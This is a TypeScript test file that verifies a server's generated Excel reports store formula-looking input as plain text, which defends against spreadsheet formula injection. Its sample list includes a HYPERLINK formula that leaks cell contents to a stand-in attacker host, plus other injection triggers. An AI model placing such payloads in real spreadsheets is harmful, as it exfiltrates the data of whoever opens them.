import type { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { resultWorkbook, withPasswords } from '../../server/modules/loader/result-file';
import type { SheetRow } from '../../server/modules/loader/sheet';
import { reportWorkbook } from '../../server/modules/registry/report-file';
import { streamSheet } from '../../server/modules/reports/sheet-stream';

/** Issue 23: the server's .xlsx files keep a formula-looking text a text cell (no <f>), so no spreadsheet runs it. */
const FORMULAS = ['=HYPERLINK("http://evil.test/?"&A2,"Open")', '+cmd', '-1+1', '@SUM(A1:A2)'];

async function textCells(file: Buffer): Promise<{ value: unknown; type: ExcelJS.ValueType; formula: string | undefined }[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ExcelJS.Buffer);
  const cells: { value: unknown; type: ExcelJS.ValueType; formula: string | undefined }[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void cells.push({ value: cell.value, type: cell.type, formula: cell.formula })));
  return cells;
}

const asText = (value: string) => ({ value, type: ExcelJS.ValueType.String, formula: undefined });

async function buffered(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

describe('.xlsx files written by the server store formula-looking texts as text', () => {
  it('the streamed sales and orders reports', async () => {
    const columns = FORMULAS.map((_, index) => ({ header: `c${index}`, width: 10, kind: 'text' as const }));
    const rows = (async function* () {
      yield FORMULAS;
    })();
    const cells = await textCells(await buffered(streamSheet(columns, rows, () => [])));
    for (const text of FORMULAS) expect(cells).toContainEqual(asText(text));
    expect(cells.every((cell) => cell.formula === undefined)).toBe(true);
  });

  it('the registry report', async () => {
    const data = { name: FORMULAS[0]!, phone: FORMULAS[1]!, email: FORMULAS[3]!, company: FORMULAS[2]! };
    const file = await reportWorkbook([{ row_number: 2, status: 'REFUSED', certificate: null, reason: FORMULAS[1]!, data }], 'ru');
    const cells = await textCells(file);
    for (const text of FORMULAS) expect(cells).toContainEqual(asText(text));
    expect(cells.every((cell) => cell.formula === undefined)).toBe(true);
  });

  it('the loader result, also after the generated passwords are written in', async () => {
    const row = { number: 2, name: FORMULAS[0], login: FORMULAS[3], phone: FORMULAS[1], email: FORMULAS[2] } as unknown as SheetRow;
    const stored = await resultWorkbook([{ row, created: true, generatedPassword: 'x' }], 'withheld');
    for (const file of [stored, await withPasswords(stored, new Map([[2, '=1+1']]))]) {
      const cells = await textCells(file);
      for (const text of FORMULAS) expect(cells).toContainEqual(asText(text));
      expect(cells.every((cell) => cell.formula === undefined)).toBe(true);
    }
  });
});
